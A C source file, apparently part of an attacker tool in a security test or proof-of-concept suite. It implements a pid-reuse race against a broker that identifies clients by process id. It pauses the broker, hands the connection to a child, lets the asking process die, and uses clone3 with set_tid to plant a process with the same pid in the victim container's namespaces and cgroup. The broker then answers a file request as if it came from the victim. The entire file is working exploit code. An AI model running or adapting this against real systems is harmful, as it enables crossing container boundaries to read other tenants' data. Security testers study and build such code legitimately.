/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A process connects, hands its connection to a child and dies; then its pid becomes another
 * process, before the broker looks.
 *
 *	asker (in the attacker's container) ── connects ── forks holder ── dies
 *	holder                               asks by the connection, prints what comes
 *	double (in the victim's namespaces and cgroup) has the asker's pid
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attacker.h"

#define INNER_PID 3000 /* of the double in the victim's pid namespace; free there */

/* A cgroup of 0: ours. tid: the pid to have, innermost namespace first. */
static pid_t clone_as(int cgroup, const pid_t *tid, size_t levels)
{
	struct clone_args args = {
		.flags = cgroup > 0 ? CLONE_INTO_CGROUP : 0,
		.exit_signal = SIGCHLD,
		.set_tid = (uint64_t)(uintptr_t)tid,
		.set_tid_size = levels,
		.cgroup = cgroup > 0 ? (uint64_t)cgroup : 0,
	};

	return (pid_t)syscall(SYS_clone3, &args, sizeof(args));
}

static int open_cgroup(const char *mount, pid_t pid)
{
	char path[8192], text[4096], *line, *end;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cgroup", pid);
	read_whole(path, text, sizeof(text));
	line = strstr(text, "0::");
	if (!line || (line != text && line[-1] != '\n') || !(end = strchr(line, '\n')))
		die("%s: no cgroup of version 2", path);
	*end = '\0';
	snprintf(path, sizeof(path), "%s%s", mount, line + 3);
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		die_errno(path);
	return fd;
}

/* What we fork from now on is where `pid` is: its mounts, its pid namespace. */
static void enter(pid_t pid)
{
	int fd = pidfd_of(pid);

	if (fd < 0 || setns(fd, CLONE_NEWPID | CLONE_NEWNS) < 0)
		die_errno("enter a container");
	close(fd);
}

static void hold(int fd, const char *path, int answer_fd)
{
	char answer[ANSWER_MAX], parameters[4200];
	size_t len;

	snprintf(parameters, sizeof(parameters), "{\"path\":\"%s\"}", path);
	len = call(fd, "Get", parameters, answer, sizeof(answer));
	if (!len)
		len = (size_t)snprintf(answer, sizeof(answer), "closed");
	_exit(write(answer_fd, answer, len) == (ssize_t)len ? 0 : 1);
}

/* The asker: connects, leaves the connection to the holder, and dies or waits. */
static void ask(const char *socket, const char *path, int answer_fd, bool stay)
{
	int fd = connect_to(socket);
	pid_t holder = fork();

	if (holder < 0)
		die_errno("fork");
	if (holder == 0)
		hold(fd, path, answer_fd);
	if (stay)
		waitpid(holder, NULL, 0);
	_exit(0);
}

static void stop(pid_t pid)
{
	char path[64], text[512], *state;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (kill(pid, SIGSTOP) < 0)
		die_errno("stop the broker");
	do {
		read_whole(path, text, sizeof(text));
		state = strrchr(text, ')');
	} while (state && state[2] != 'T' && sched_yield() == 0);
}

struct scene {
	const char *socket, *cgroups, *path;
	pid_t broker, attacker, victim;
	bool stay, reuse;
};

/* Returns the asker's pid; it is dead and reaped unless it stays. */
static pid_t send_asker(const struct scene *s, int answer_fd)
{
	int ends[2];
	pid_t asker, helper;

	if (pipe2(ends, O_CLOEXEC) < 0 || (helper = fork()) < 0)
		die_errno("fork");
	if (helper == 0) {
		int cgroup = open_cgroup(s->cgroups, s->attacker);

		enter(s->attacker);
		asker = clone_as(cgroup, NULL, 0);
		if (asker < 0)
			die_errno("an asker in the attacker's container");
		if (asker == 0)
			ask(s->socket, s->path, answer_fd, s->stay);
		if (!s->stay)
			waitpid(asker, NULL, 0);
		_exit(write(ends[1], &asker, sizeof(asker)) == sizeof(asker) ? 0 : 1);
	}
	close(ends[1]);
	if (read(ends[0], &asker, sizeof(asker)) != sizeof(asker))
		die("there is no asker");
	close(ends[0]);
	waitpid(helper, NULL, 0);
	return asker;
}

/* Returns the helper whose child the double is: both end with the helper. */
static pid_t send_double(const struct scene *s, pid_t pid)
{
	int ends[2];
	char ready;
	pid_t helper;

	if (pipe2(ends, O_CLOEXEC) < 0 || (helper = fork()) < 0)
		die_errno("fork");
	if (helper == 0) {
		const pid_t tid[] = { INNER_PID, pid };
		int cgroup = open_cgroup(s->cgroups, s->victim);
		pid_t child;

		enter(s->victim);
		child = clone_as(cgroup, tid, 2);
		if (child < 0)
			die_errno("a double with the asker's pid");
		if (child > 0)
			waitpid(child, NULL, 0);
		else if (write(ends[1], "r", 1) == 1)
			pause();
		_exit(0);
	}
	close(ends[1]);
	if (read(ends[0], &ready, 1) != 1)
		die("there is no double");
	close(ends[0]);
	return helper;
}

int cmd_reuse(int argc, char **argv)
{
	const struct scene s = {
		.stay = strcmp(argv[1], "alive") == 0,
		.reuse = strcmp(argv[1], "reused") == 0,
		.socket = argv[2],
		.broker = atoi(argv[3]),
		.attacker = atoi(argv[4]),
		.victim = atoi(argv[5]),
		.cgroups = argv[6],
		.path = argv[7],
	};
	char answer[ANSWER_MAX] = "";
	pid_t asker, helper = 0;
	int ends[2];
	ssize_t n;

	if (pipe2(ends, O_CLOEXEC) < 0)
		die_errno("pipe");
	stop(s.broker);
	asker = send_asker(&s, ends[1]);
	if (s.reuse)
		helper = send_double(&s, asker);
	printf("asker %d\n", asker);
	close(ends[1]);
	kill(s.broker, SIGCONT);
	n = read(ends[0], answer, sizeof(answer) - 1);
	print_answer("answer", answer, n > 0 ? (size_t)n : 0);
	if (helper > 0) {
		kill(asker, SIGKILL);
		waitpid(helper, NULL, 0);
	}
	return 0;
}

/* All within one container: its root has CAP_CHECKPOINT_RESTORE there. The broker is stopped. */
int cmd_respawn(int argc, char **argv)
{
	char answer[ANSWER_MAX] = "";
	pid_t asker, child;
	int ends[2];
	ssize_t n;

	if (pipe2(ends, O_CLOEXEC) < 0 || (asker = fork()) < 0)
		die_errno("fork");
	if (asker == 0)
		ask(argv[1], argv[2], ends[1], false);
	waitpid(asker, NULL, 0);
	child = clone_as(0, &asker, 1);
	if (child == 0) {
		pause();
		_exit(0);
	}
	if (child != asker)
		die_errno("a process with a dead one's pid");
	close(ends[1]);
	printf("ready %d\n", asker);
	fflush(stdout);
	n = read(ends[0], answer, sizeof(answer) - 1);
	print_answer("answer", answer, n > 0 ? (size_t)n : 0);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}
